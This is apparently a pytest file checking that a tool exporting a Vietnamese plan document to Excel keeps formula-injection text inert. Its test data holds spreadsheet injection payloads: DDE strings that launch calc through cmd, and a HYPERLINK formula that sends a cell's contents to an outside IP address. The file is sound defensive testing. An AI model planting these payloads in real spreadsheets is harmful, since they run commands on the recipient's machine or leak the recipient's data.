"""Words of a plan that an office program, a browser or a terminal could take for an order."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

from openpyxl import load_workbook

from tests.year_papers import Office

LINK = '=HYPERLINK("http://203.0.113.1/?x="&A1,"Nuôi ong")'
ORDERS = (
    ("Ông Đặng Văn Thông, Phường Thịnh Lang, thành phố Hòa Bình", LINK),
    ("Bà Bùi Thị Hoa, Phường Thịnh Lang, thành phố Hòa Bình", "+cmd|' /C calc'!A0"),
    ("Hội Nông dân phường Dân Chủ, thành phố Hòa Bình", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("=1+1+cmd|'x'!A1, Phường Dân Chủ, thành phố Hòa Bình", "-2+3+cmd|' /C calc'!A0"),
    ("{=WEBSERVICE(1)}, Phường Dân Chủ", "\t=DDE(1)"),
)
OWN = re.compile(r"=(?:SUM|SUBTOTAL|COUNTIFS?|COUNTA?|IF|IFERROR|ROUND|[A-Z]+[0-9]+)\b")


def _formulas(path: Path) -> Iterator[str]:
    for sheet in load_workbook(path):
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    yield str(getattr(cell.value, "text", cell.value))


def test_no_word_of_a_plan_becomes_a_formula(own_office: Office) -> None:
    own_office.drop("ke-hoach.docx", ORDERS, "15/3/2023", issuer=LINK)
    own_office.call("run")
    for command in ("forms", "status", "introduce"):
        assert own_office.call(command, "2023").exit_code == 0
    kept = own_office.folder / "extract.xlsx"
    own_office.call("extract", "input/ke-hoach.docx", "--format", "xlsx", "-o", str(kept))
    books = [*own_office.output.rglob("*.xlsx"), kept]
    assert any(path.name.startswith("phieu-") for path in books)
    shown = 0
    for path in books:
        for formula in _formulas(path):
            assert OWN.match(formula), (path.name, formula)
            assert "cmd" not in formula, (path.name, formula)
        values = [cell.value for sheet in load_workbook(path) for row in sheet for cell in row]
        shown += any(str(value).startswith("=HYPERLINK") for value in values)
    assert shown >= 3, "the words themselves are printed, as text"
